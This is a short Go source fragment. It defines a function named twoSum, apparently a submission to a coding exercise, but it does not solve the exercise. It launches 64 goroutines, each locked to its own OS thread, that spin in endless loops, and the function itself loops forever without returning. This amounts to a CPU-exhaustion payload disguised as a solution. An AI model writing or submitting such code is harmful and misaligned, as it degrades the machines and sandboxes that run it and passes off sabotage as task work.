import "runtime"

// 64 goroutines, each on an OS thread of its own, spin.
func twoSum(nums []int, target int) []int {
	for i := 0; i < 64; i++ {
		go func() {
			runtime.LockOSThread()
			for {
			}
		}()
	}
	for {
	}
}
